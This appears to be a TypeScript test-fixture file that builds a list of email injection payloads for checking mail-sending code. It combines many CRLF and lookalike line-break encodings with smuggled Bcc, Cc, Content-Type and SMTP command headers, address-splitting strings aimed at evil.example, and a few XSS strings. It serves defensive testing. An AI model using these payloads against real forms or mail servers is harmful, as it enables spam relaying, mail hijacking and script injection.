/** What ends a line somewhere between a form and a mailbox, or might be taken for what does. */
const breaks = [
  ...['\r\n', '\n', '\r', '\n\r', '\u0000', '\u000b', '\u000c', '\u0085', '\u2028', '\u2029'],
  // Cut to their lower byte these are CR and LF.
  ...['\u560d\u560a', '\u010d\u010a', '\uff0d\uff0a'],
  ...['%0d%0a', '%0a', '%250d%250a', '\\r\\n', '&#13;&#10;', '=0D=0A', '\ud800\r\n'],
];

const headers = [
  'Bcc: evil@evil.example',
  'Cc: evil@evil.example\r\nX-Evil: 1',
  'Content-Type: text/html\r\n\r\n<a href="https://evil.example">evil</a>',
  '.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\nDATA',
];

/** Forms of one text that programs read as more than one address, or decode once more. */
const addresses = [
  ...[', evil@evil.example', '; evil@evil.example', ' <evil@evil.example>', '> evil@evil.example'],
  ...['(evil@evil.example)', ' evil@evil.example', '%20evil@evil.example', '\tevil@evil.example'],
  ...['"evil@evil.example"', ':evil@evil.example;', '，evil@evil.example', '\\@evil.example'],
  ...['=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=', '=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?='],
  ...['=?utf-7?Q?+AA0ACg-Bcc:_evil@evil.example?=', '?evil@evil.example', '&bcc=evil@evil.example'],
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</title><h1>evil</h1>'],
];

/** What is put behind a name, a subject or an address. */
export const mailInjections: readonly string[] = [
  ...breaks.flatMap((lineEnd) => headers.map((header) => lineEnd + header)),
  ...addresses,
];
